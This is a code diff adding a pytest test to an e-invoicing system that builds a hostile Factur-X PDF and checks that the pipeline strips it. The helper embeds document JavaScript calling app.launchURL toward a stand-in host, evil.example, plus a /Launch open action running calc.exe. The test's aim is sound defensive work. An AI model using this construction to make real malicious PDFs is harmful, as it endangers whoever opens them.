@@ -159,3 +159,56 @@ def test_twenty_concurrent_drops_are_twenty_invoices(rt):
     rt.settle()
     statuses = [dropped(rt, n)["status"] for n in names]
     assert all(s in ("sent", "delivered") for s in statuses), statuses
+
+
+def hostile_facturx(number: str) -> bytes:
+    """A Factur-X as billing tools make them, plus what attackers add: Helvetica not embedded,
+    document JavaScript and a Launch action on opening."""
+    import io
+
+    from facturx import generate_from_binary
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+    from reportlab.pdfgen import canvas
+
+    from facteur.formats import cii
+    from facteur.model.invoice import Invoice
+
+    inv = Invoice.model_validate(martin_json(number))
+    buf = io.BytesIO()
+    c = canvas.Canvas(buf)
+    c.setFont("Helvetica", 12)
+    c.drawString(72, 720, f"Facture {number}")
+    c.save()
+    w = PdfWriter(clone_from=PdfReader(io.BytesIO(buf.getvalue())))
+    js = w._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
+                                         NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example');")}))
+    w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject(
+        {NameObject("/Names"): ArrayObject([TextStringObject("open"), js])})})
+    w._root_object[NameObject("/OpenAction")] = w._add_object(DictionaryObject(
+        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}))
+    w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): js})
+    out = io.BytesIO()
+    w.write(out)
+    pdf = generate_from_binary(out.getvalue(), cii.write(inv, profile="en16931"), flavor="factur-x", level="en16931",
+                               check_xsd=False)
+    assert b"/JavaScript" in pdf and b"/Launch" in pdf
+    return pdf
+
+
+def test_a_hostile_facturx_leaves_stripped_and_conformant_not_failed(rt):
+    from facteur.controls.pdfa import check_facturx_pdf
+
+    number = f"NL-{uuid.uuid4().hex[:8]}"
+    name = f"{number}.pdf"
+    rt.drop(SUPPLIER, hostile_facturx(number), name)
+    rt.settle()
+    inv = dropped(rt, name)
+    assert inv["status"] in ("sent", "delivered"), (inv["status"], inv.get("reason"))
+    sent = rt.client("s3").get_object(Bucket=rt.outputs["DocumentsBucketName"], Key=inv["documents"]["facturx"])["Body"].read()
+    assert b"/JavaScript" not in sent and b"/Launch" not in sent and b"calc.exe" not in sent
+    assert check_facturx_pdf(sent, expected_profile="en16931") == []
+    converted = [e for e in api(rt, "GET", f"/invoices/{inv['invoice_id']}/timeline").json()["events"]
+                 if e["kind"] == "converted"][0]["detail"]
+    assert {"page 1 additional actions", "open action /Launch"} <= set(converted["removed_from_pdf"])
+    assert "PDFA-FONT" in converted["rerendered"]["why"]
